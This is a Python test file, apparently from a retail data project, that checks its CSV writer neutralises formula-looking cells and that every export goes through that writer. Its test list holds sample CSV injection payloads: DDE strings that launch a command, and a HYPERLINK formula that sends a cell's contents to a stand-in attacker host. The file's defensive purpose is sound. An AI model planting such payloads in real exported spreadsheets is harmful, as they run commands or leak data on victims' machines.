"""CSV that tillstream writes never carries a formula a spreadsheet would run (OWASP, CSV
Injection): formula-looking cells are neutralised, numbers stay numbers, and every CSV writer
in the repository is the one that does it."""

from __future__ import annotations

import csv
import io
import re
from decimal import Decimal
from pathlib import Path

import pytest

from tillstream.core.spreadsheet import csv_writer, looks_like_formula, neutralise
from tillstream.simulate.catalog import items_csv, prices_csv

ROOT = Path(__file__).resolve().parent.parent
SOURCES = ("tillstream", "producers", "consumers", "bench", "chaos")
FORMULAS = [
    "=cmd|' /C calc'!A0",
    '@HYPERLINK("http://evil.example/?"&A1)',
    "+1+cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
    "\t=1+1",
    "\r=1+1",
    "\uff1d1+1",
]


def written(rows: list[list[object]]) -> list[list[str]]:
    out = io.StringIO()
    csv_writer(out).writerows(rows)
    return list(csv.reader(io.StringIO(out.getvalue(), newline="")))


@pytest.mark.parametrize("cell", FORMULAS)
def test_a_formula_is_written_as_text(cell: str) -> None:
    assert looks_like_formula(cell)
    assert written([["SKU-1", cell]]) == [["SKU-1", "'" + cell]]


@pytest.mark.parametrize("cell", ["-1", "+3", "-1.50", "1e3", "Milk - 1 l", "", "'=x", "50%"])
def test_numbers_and_plain_text_are_left_alone(cell: str) -> None:
    assert not looks_like_formula(cell)
    assert written([[cell]]) == [[cell]]


def test_values_that_are_not_text_are_written_as_csv_writes_them() -> None:
    assert neutralise(Decimal("-1.50")) == Decimal("-1.50")
    assert written([[Decimal("-1.50"), 3, None]]) == [["-1.50", "3", ""]]


def test_the_catalog_files_are_written_by_the_neutralising_writer() -> None:
    for text in (items_csv(), prices_csv()):
        for row in csv.reader(io.StringIO(text, newline="")):
            assert not any(looks_like_formula(cell) for cell in row), row


def test_every_csv_writer_in_the_repository_neutralises() -> None:
    """One place writes CSV: a new export that calls csv.writer itself fails here."""
    direct = re.compile(r"\bcsv\.(?:writer|DictWriter)\s*\(")
    allowed = ROOT / "tillstream" / "core" / "spreadsheet.py"
    offenders = [
        str(path.relative_to(ROOT))
        for folder in SOURCES
        for path in sorted((ROOT / folder).rglob("*.py"))
        if path != allowed and direct.search(path.read_text(encoding="utf-8"))
    ]
    assert offenders == []
